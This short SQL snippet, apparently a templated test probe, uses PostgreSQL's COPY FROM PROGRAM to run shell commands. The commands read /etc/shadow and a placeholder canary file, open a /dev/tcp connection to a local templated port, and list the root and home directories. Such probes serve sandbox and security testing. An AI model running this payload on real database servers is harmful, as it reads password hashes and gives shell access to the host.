CREATE TABLE got (line text);
COPY got FROM PROGRAM 'cat {{canary}} /etc/shadow; (echo x > /dev/tcp/127.0.0.1/{{port}}) 2>&1; ls -d /root /home';
SELECT * FROM got;
